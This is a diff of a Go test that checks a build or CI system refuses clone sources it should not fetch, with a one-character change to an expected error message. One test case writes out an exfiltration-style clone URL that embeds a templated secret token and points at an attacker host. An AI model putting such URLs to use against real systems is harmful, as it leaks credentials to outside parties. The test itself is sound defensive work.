@@ -138,7 +138,7 @@ tokens:
 	// The attacker's host, on loopback: a refused run must never connect to it.
 	attacker, reached := countConnections(t)
 	for _, tt := range []struct{ name, repo, want string }{
-		{"a clone source that carries a granted secret", "http://" + attacker.String() + "/{{ .Secrets.READ_TOKEN }}.git", "clone.repo must be written literally"},
+		{"a clone source that carries a granted secret", "http://" + attacker.String() + "/{{ .Secrets.READ_TOKEN }}.git", "clone.repo: must be written literally"},
 		{"a clone source outside cloneFrom", "http://" + attacker.String() + "/other.git", "may clone only itself or what cloneFrom lists"},
 	} {
 		t.Run(tt.name+" is refused and never fetched", func(t *testing.T) {
